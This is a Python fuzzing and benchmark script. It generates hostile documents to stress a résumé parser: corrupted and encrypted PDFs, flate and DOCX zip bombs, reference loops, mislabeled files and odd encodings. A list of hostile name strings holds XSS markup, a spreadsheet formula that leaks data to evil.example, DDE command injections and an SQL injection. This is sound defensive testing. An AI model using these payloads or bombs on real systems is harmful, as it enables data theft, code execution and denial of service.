"""Hostile documents for the parser: a generator, and a runner that parses them in the pool.

    python bench/hostile_files.py --count 500 --out DIR [--seed 1] [--run] [--timeout 20]

The files are made from scratch and by mutating the sample documents in ../shared/samples
(tech-risks R-PDF5, §3.6): broken and encrypted PDFs, decompression bombs, reference loops,
files that lie about their type, odd text encodings, markup and spreadsheet formulas in names.
The same seed writes the same files (pypdf's random encryption salts included).
"""

from __future__ import annotations

import argparse
import functools
import io
import random
import struct
import sys
import time
import zipfile
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:  # runnable as `python bench/hostile_files.py`
    sys.path.insert(0, str(REPO))

import orjson  # noqa: E402  (after the sys.path fix)

from parsing.models import ParseResult  # noqa: E402
from parsing.pool import ParseOutcome, parse_many  # noqa: E402
from tests.pdf_factory import PdfBuilder, pdf_bytes, text_ops  # noqa: E402

SAMPLES = REPO.parent / "shared" / "samples"
MB = 1024 * 1024
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a4944415478"
    "9c636800000082008177cd72b60000000049454e44ae426082"
)

FALLBACK_TEXT = "Jane Doe\njane.doe@example.org\nEDUCATION\nSome University, PhD, 2019 - 2023\n"
HOSTILE_NAMES = (
    "<b>x</b>",
    "<img src=x onerror=alert(1)>",
    "<script>alert('cv')</script> Jane",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Robert'); DROP TABLE candidates;--",
    "\u202eevil\u202c Name",
)


@dataclass(frozen=True)
class Corpus:
    pdfs: tuple[bytes, ...]
    texts: tuple[str, ...]

    @classmethod
    def load(cls, folder: Path = SAMPLES) -> Corpus:
        pdfs = tuple(p.read_bytes() for p in sorted((folder / "pdf").glob("*.pdf")))
        texts = tuple(
            p.read_text(encoding="utf-8", errors="replace")
            for p in sorted((folder / "text").glob("*.txt"))
        )
        return cls(pdfs or (text_pdf(FALLBACK_TEXT.splitlines()),), texts or (FALLBACK_TEXT,))


@dataclass(frozen=True)
class Sparse:
    """A file of `size` bytes that starts with `head` and is a hole after it."""

    head: bytes
    size: int


Payload = bytes | Sparse
Kind = Callable[[random.Random, Corpus], tuple[str, Payload]]

# --------------------------------------------------------------------------- PDF from scratch


def stream(data: bytes, extra: bytes = b"") -> bytes:
    data = zlib.compress(data)
    return b"<< /Length %d%s /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        len(data),
        extra,
        data,
    )


def page_pdf(
    content: bytes,
    *,
    font: bytes = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    page: bytes = b"",
    pages: bytes = b"",
    extra: tuple[bytes, ...] = (),
    raw_content: bytes | None = None,
) -> bytes:
    """One page: objects 1 catalog, 2 pages, 3 page, 4 font, 5 content stream, 6+ extra."""
    builder = PdfBuilder()
    builder.add(b"<< /Type /Catalog /Pages 2 0 R >>")
    builder.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 %s>>" % pages)
    builder.add(
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
        b"/Resources << /Font << /F1 4 0 R >> /XObject << /Im1 6 0 R >> >> %s>>" % page
    )
    builder.add(font)
    builder.add(raw_content or stream(content))
    for body in extra:
        builder.add(body)
    return builder.to_bytes(root=1)


def text_pdf(lines: list[str]) -> bytes:
    # The factory's fonts are WinAnsi: characters outside cp1252 become "?".
    safe = [line.encode("cp1252", "replace").decode("cp1252") for line in lines[:55]]
    return pdf_bytes([text_ops((60, 740 - 13 * i, line) for i, line in enumerate(safe))])


# --------------------------------------------------------------------------- bombs


def _deflate_segment(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def _repeated_deflate(head: bytes, chunk: bytes, copies: int, tail: bytes) -> bytes:
    """Raw deflate of head + chunk * copies + tail in O(len(chunk)) time: sync-flushed segments
    only refer back inside themselves, so one compressed chunk can simply be repeated."""
    repeated = _deflate_segment(chunk) * copies
    return _deflate_segment(head) + repeated + _deflate_segment(tail) + b"\x03\x00"


def _repeated_checksum(
    func: Callable[[bytes, int], int], start: int, parts: list[bytes], copies: int
) -> int:
    head, chunk, tail = parts
    value = func(head, start)
    for _ in range(copies):
        value = func(chunk, value)
    return func(tail, value)


@functools.cache
def flate_bomb_pdf(megabytes: int = 300) -> bytes:
    parts = [b"BT /F1 11 Tf 60 740 Td (Bomb) Tj ET\n", b"0 0 m 1 1 l S\n" * (MB // 14), b""]
    adler = _repeated_checksum(zlib.adler32, 1, parts, megabytes)
    data = b"\x78\xda" + _repeated_deflate(parts[0], parts[1], megabytes, parts[2])
    data += struct.pack(">I", adler)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)
    return page_pdf(b"", raw_content=body)


_DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOCX_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w='
    b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
)


def _zip(members: list[tuple[bytes, bytes, int, int]]) -> bytes:
    """A ZIP of pre-deflated members (name, raw deflate, crc32, size), no ZIP64."""
    entries, directory = bytearray(), bytearray()
    for name, data, crc, size in members:
        fields = (20, 0, 8, 0, 0, crc, len(data), size, len(name), 0)
        directory += struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIIIHH", *fields)
        directory += struct.pack("<HHHII", 0, 0, 0, 0, len(entries)) + name
        entries += struct.pack("<I", 0x04034B50) + struct.pack("<HHHHHIIIHH", *fields) + name + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(entries), 0
    )
    return bytes(entries + directory + end)


@functools.cache
def docx_zip_bomb(megabytes: int = 1024) -> bytes:
    """A DOCX whose word/document.xml inflates to `megabytes` of repeated runs of text."""
    parts = [
        _DOCX_HEAD,
        b"<w:t>aaaaaaaaaaaaaaaaa</w:t>" * (MB // 28) + b" " * (MB % 28),
        b"</w:r></w:p></w:body></w:document>",
    ]
    crc = _repeated_checksum(zlib.crc32, 0, parts, megabytes)
    size = len(parts[0]) + len(parts[1]) * megabytes + len(parts[2])
    small = [(b"[Content_Types].xml", _DOCX_TYPES), (b"_rels/.rels", _DOCX_RELS)]
    members = [(n, _deflate_segment(d) + b"\x03\x00", zlib.crc32(d), len(d)) for n, d in small]
    document = (b"word/document.xml", _repeated_deflate(*parts[:2], megabytes, parts[2]), crc, size)
    return _zip([*members, document])


# --------------------------------------------------------------------------- kinds


def truncated(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    data = rng.choice(c.pdfs)
    return ".pdf", data[: rng.randint(len(data) // 20, len(data) * 19 // 20)]


def bit_flipped(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    data = bytearray(rng.choice(c.pdfs))
    for _ in range(rng.randint(1, 64)):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return ".pdf", bytes(data)


def chunk_shuffled(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    data = rng.choice(c.pdfs)
    cuts = sorted(rng.sample(range(1, len(data)), rng.randint(3, 12)))
    chunks = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
    rest = chunks[1:]
    rng.shuffle(rest)  # the header chunk stays first so the file still reaches the PDF parser
    return ".pdf", b"".join([chunks[0], *rest])


def encrypted(algorithm: str, user_password: str) -> Kind:
    def make(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
        from pypdf import PdfReader, PdfWriter

        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(rng.choice(c.pdfs))))
        out = io.BytesIO()
        # pypdf draws salts, IVs and file ids from `secrets`; seed them for repeatable files.
        with mock.patch("secrets.token_bytes", rng.randbytes):
            writer.encrypt(user_password, "owner-secret", algorithm=algorithm)
            writer.write(out)
        return ".pdf", out.getvalue()

    return make


def many_operators(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    count = rng.choice((1_000_000, 2_000_000, 3_000_000))
    op = rng.choice((b"(a) Tj\n", b"0 0 m 1 1 l S\n", b"1 0 0 1 0 0 cm\n"))
    return ".pdf", page_pdf(b"BT /F1 1 Tf\n" + op * count + b"ET")


def deeply_nested(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    depth = rng.choice((1_000, 10_000, 100_000))
    nested = (
        b"[" * depth + b"]" * depth if rng.random() < 0.5 else b"<< /A " * depth + b">>" * depth
    )
    return ".pdf", page_pdf(b"BT /F1 11 Tf 60 740 Td (Deep) Tj ET", page=b"/Deep " + nested + b" ")


def reference_loop(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    text = b"BT /F1 11 Tf 60 740 Td (Loop) Tj ET"
    variant = rng.randrange(5)
    if variant == 0:  # the content stream is a reference to itself
        pdf = page_pdf(text, page=b"/Annots 6 0 R ", extra=(b"6 0 R",))
        return ".pdf", pdf.replace(b"/Contents 5 0 R", b"/Contents 6 0 R")
    if variant == 1:  # /Parent loop: the page tree's root claims a parent, which is the page
        return ".pdf", page_pdf(text, pages=b"/Parent 3 0 R /Resources << >> ")
    if variant == 2:  # /Kids loop: the page tree contains itself
        pdf = page_pdf(text)
        return ".pdf", pdf.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [3 0 R 2 0 R] /Count 2")
    if variant == 3:  # /Prev loop: the trailer's previous xref is itself
        pdf = page_pdf(text)
        start = int(pdf.rsplit(b"startxref\n", 1)[1].split()[0])
        return ".pdf", pdf.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % start)
    return ".pdf", page_pdf(text, pages=b"/Count 2147483647 ")


def broken_tounicode(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    cmap = rng.choice(
        (
            rng.randbytes(rng.randint(10, 4000)),
            b"begincmap 1 beginbfrange <0000> <FFFF> <0041> endbfrange endcmap",
            b"begincmap 2 beginbfchar <4> <00zz> <0041> endbfchar",
            b"begincmap 1 beginbfrange <0000> <FFFFFFFF> [<0041>] endbfrange endcmap",
            b"begincmap 99999999 beginbfchar <0041> <D800> endbfchar endcmap",
            b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <41> <5A> <",
        )
    )
    if rng.random() < 0.5:
        font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>"
        content = b"BT /F1 11 Tf 60 740 Td (Hello World) Tj ET"
    else:
        font = (
            b"<< /Type /Font /Subtype /Type0 /BaseFont /Broken /Encoding /Identity-H "
            b"/DescendantFonts [8 0 R] /ToUnicode 7 0 R >>"
        )
        content = b"BT /F1 11 Tf 60 740 Td <0041004200430044> Tj ET"
    descendant = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Broken /W [0 [500]] >>"
    return ".pdf", page_pdf(content, font=font, extra=(b"null", stream(cmap), descendant))


def no_text_layer(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    """A 'scanned' page: one image and some vector strokes, no text operators at all."""
    pixels = rng.randbytes(64 * 64)
    image = stream(
        pixels,
        b" /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8",
    )
    return ".pdf", page_pdf(b"q 500 0 0 700 50 50 cm /Im1 Do Q 0 0 m 9 9 l S", extra=(image,))


def _hostile_text(rng: random.Random, c: Corpus) -> str:
    lines = [line for line in rng.choice(c.texts).splitlines() if line.strip()]
    lines[:1] = [rng.choice(HOSTILE_NAMES)]  # the name line
    lines.insert(
        rng.randrange(1, len(lines) + 1), "Notes: " + " ".join(rng.sample(HOSTILE_NAMES, 3))
    )
    return "\n".join(lines)


def markup_text(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    return rng.choice((".txt", ".md")), _hostile_text(rng, c).encode()


def markup_pdf(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    return ".pdf", text_pdf(_hostile_text(rng, c).splitlines())


def markup_docx(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    """A well-formed DOCX whose paragraphs carry the hostile name and notes (XML-escaped:
    the markup is text, as a candidate typing it into Word would make it)."""
    from xml.sax.saxutils import escape

    runs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in _hostile_text(rng, c).splitlines()
    )
    head = _DOCX_HEAD.removesuffix(b"<w:p><w:r>")
    document = head + runs.encode() + b"</w:body></w:document>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _DOCX_TYPES)
        archive.writestr("_rels/.rels", _DOCX_RELS)
        archive.writestr("word/document.xml", document)
    return ".docx", out.getvalue()


def odd_encoding(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    text = rng.choice(c.texts)
    variant = rng.randrange(5)
    if variant == 0:
        return ".txt", text.encode("utf-16")  # with BOM
    if variant == 1:
        return ".txt", text.encode(rng.choice(("utf-16-le", "utf-16-be")))
    if variant == 2:
        return ".txt", text.encode("latin-1", errors="replace")
    if variant == 3:  # a UTF-8 file with Latin-1 and cp1252 paragraphs pasted in
        parts = [
            p.encode(rng.choice(("utf-8", "latin-1", "cp1252")), "replace")
            for p in text.split("\n\n")
        ]
        return ".txt", b"\n\n".join(parts)
    noise = "".join(chr(rng.choice([*range(0, 32), 127, 0x85, 0x2028, 0xFEFF])) for _ in range(200))
    chars = list(text)
    for ch in noise:
        chars.insert(rng.randrange(len(chars) + 1), ch)
    return ".txt", "".join(chars).encode("utf-8", "surrogatepass")


def wrong_type(rng: random.Random, c: Corpus) -> tuple[str, Payload]:
    variant = rng.randrange(5)
    if variant == 0:
        name = rng.choice(HOSTILE_NAMES)
        html = f"<!DOCTYPE html><html><body><h1>CV</h1><p>{name}</p></body></html>"
        return ".pdf", html.encode()
    if variant == 1:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("cv.txt", rng.choice(c.texts))
        return ".pdf", out.getvalue()
    if variant == 2:
        return ".pdf", PNG_1X1
    if variant == 3:
        return ".docx", rng.randbytes(rng.randint(1, 50_000))
    return ".pdf", rng.randbytes(rng.randint(1, 50_000))


KINDS: dict[str, Kind] = {
    "truncated": truncated,
    "bitflip": bit_flipped,
    "shuffled": chunk_shuffled,
    "enc-rc4-user": encrypted("RC4-128", "user-secret"),
    "enc-aes128-user": encrypted("AES-128", "user-secret"),
    "enc-aes256-user": encrypted("AES-256", "user-secret"),
    "enc-rc4-open": encrypted("RC4-128", ""),
    "enc-aes128-open": encrypted("AES-128", ""),
    "enc-aes256-open": encrypted("AES-256", ""),
    "flate-bomb": lambda rng, c: (".pdf", flate_bomb_pdf()),
    "many-ops": many_operators,
    "nested": deeply_nested,
    "ref-loop": reference_loop,
    "tounicode": broken_tounicode,
    "no-text": no_text_layer,
    "zero-bytes": lambda rng, c: (rng.choice((".pdf", ".docx", ".txt")), b""),
    "huge-sparse": lambda rng, c: (".pdf", Sparse(rng.choice(c.pdfs)[:4096], 120 * 1000 * 1000)),
    "wrong-type": wrong_type,
    "docx-bomb": lambda rng, c: (".docx", docx_zip_bomb()),
    "encoding": odd_encoding,
    "markup-text": markup_text,
    "markup-pdf": markup_pdf,
    "markup-docx": markup_docx,
}


def write_payload(path: Path, payload: Payload) -> None:
    if isinstance(payload, Sparse):
        with path.open("wb") as fh:
            fh.write(payload.head)
            fh.truncate(payload.size)  # a hole: no disk space, but stat() says 120 MB
        return
    path.write_bytes(payload)


def generate(
    out: Path,
    count: int,
    seed: int = 1,
    corpus: Corpus | None = None,
    kinds: list[str] | None = None,
) -> list[Path]:
    """Write `count` files into `out`, cycling through the kinds so that every kind appears."""
    corpus = corpus or Corpus.load()
    names = kinds or list(KINDS)
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for index in range(count):
        kind = names[index % len(names)]
        rng = random.Random(f"{seed}:{index}:{kind}")
        suffix, payload = KINDS[kind](rng, corpus)
        path = out / f"{index:04d}-{kind}{suffix}"
        write_payload(path, payload)
        paths.append(path)
    return paths


# --------------------------------------------------------------------------- runner


@dataclass
class RunReport:
    outcomes: list[ParseOutcome]
    wall: float
    max_rss_mb: float | None
    escaped: str | None = None  # an exception that escaped the pool: always a bug

    def counts(self) -> Counter[str]:
        return Counter(o.error_code or "ok" for o in self.outcomes)

    def unstorable(self) -> list[str]:
        """Results the library could not save: text that is not valid UTF-8 JSON."""
        return [o.path for o in self.outcomes if o.result and not _storable(o.result)]

    @property
    def crashes(self) -> int:
        return self.counts()["crashed"] + (1 if self.escaped else 0)

    @property
    def hangs(self) -> int:
        return self.counts()["timeout"]


def _storable(result: ParseResult) -> bool:
    try:
        orjson.dumps(result.to_dict())
    except TypeError:  # orjson: "str is not valid UTF-8: surrogates not allowed"
        return False
    return True


def _children_max_rss_mb() -> float | None:
    try:
        import resource
    except ImportError:
        return None
    kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # of reaped children only
    return kb / (1024 * 1024) if sys.platform == "darwin" else kb / 1024


def run(paths: list[Path], timeout: float = 20.0, workers: int | None = None) -> RunReport:
    """Parse every file in the pool; the workers are gone (and measured) when this returns."""
    outcomes: list[ParseOutcome] = []
    began = time.monotonic()
    escaped = None
    try:
        outcomes.extend(parse_many(paths, workers=workers, timeout=timeout))
    except Exception as exc:
        escaped = f"{type(exc).__name__}: {exc}"
    return RunReport(outcomes, time.monotonic() - began, _children_max_rss_mb(), escaped)


def kind_of(path: str) -> str:
    return Path(path).stem.split("-", 1)[1]


def describe(report: RunReport) -> list[str]:
    counts = report.counts()
    lines = [f"{len(report.outcomes)} files in {report.wall:.1f} s"]
    lines.append("outcomes: " + ", ".join(f"{code} {n}" for code, n in counts.most_common()))
    by_kind: dict[str, Counter[str]] = defaultdict(Counter)
    example: dict[tuple[str, str], str] = {}
    for outcome in report.outcomes:
        kind, code = kind_of(outcome.path), outcome.error_code or "ok"
        by_kind[kind][code] += 1
        example.setdefault((kind, code), outcome.error or "")
    for kind, codes in sorted(by_kind.items()):
        for code, n in sorted(codes.items()):
            lines.append(f"  {kind:<16} {code:<12} {n:>4}  {example[kind, code][:70]}")
    if report.outcomes:
        slow = max(report.outcomes, key=lambda o: o.seconds)
        lines.append(
            f"slowest: {Path(slow.path).name} {slow.seconds:.2f} s ({slow.error_code or 'ok'})"
        )
    rss = f"{report.max_rss_mb:.0f} MB" if report.max_rss_mb is not None else "n/a"
    lines.append(f"max worker RSS: {rss}")
    for outcome in report.outcomes:
        if outcome.error_code in ("error", "crashed"):
            lines.append(f"BUG {Path(outcome.path).name}: {outcome.error}")
    lines.extend(f"BUG {Path(p).name}: result is not valid UTF-8 JSON" for p in report.unstorable())
    if report.escaped:
        lines.append(f"BUG escaped the pool: {report.escaped}")
    errors, unstorable = counts["error"], len(report.unstorable())
    lines.append(
        f"crashes {report.crashes} hangs {report.hangs} errors {errors} unstorable {unstorable}"
    )
    return lines


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=100, help="files to write (default 100)")
    parser.add_argument("--out", type=Path, required=True, help="folder to write them into")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--samples", type=Path, default=SAMPLES, help="sample documents folder")
    parser.add_argument("--kinds", help="comma-separated subset of: " + ", ".join(KINDS))
    parser.add_argument("--run", action="store_true", help="then parse them all in the pool")
    parser.add_argument("--timeout", type=float, default=20.0, help="seconds per file (20)")
    parser.add_argument("--workers", type=int, default=None)
    args = parser.parse_args(argv)
    kinds = args.kinds.split(",") if args.kinds else None
    began = time.monotonic()
    paths = generate(args.out, args.count, args.seed, Corpus.load(args.samples), kinds)
    print(f"wrote {len(paths)} files to {args.out} in {time.monotonic() - began:.1f} s")
    if not args.run:
        return 0
    report = run(paths, args.timeout, args.workers)
    print("\n".join(describe(report)))
    return 1 if report.crashes or report.counts()["error"] or report.unstorable() else 0


if __name__ == "__main__":
    sys.exit(main())
